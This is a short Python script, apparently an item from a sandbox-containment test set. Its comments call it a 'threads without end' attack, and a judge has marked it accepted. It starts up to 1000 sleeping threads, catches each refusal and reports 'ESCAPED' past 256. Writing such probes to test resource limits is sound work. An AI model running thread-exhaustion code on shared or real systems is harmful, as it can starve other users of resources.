# attack: threads without end, with every refusal caught
# judge: accepted
import os, threading, time
n = 0
try:
    while n < 1000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        n += 1
except RuntimeError:
    pass
print('ESCAPED: %d threads' % n if n >= 256 else 'contained', flush=True)
os._exit(0)
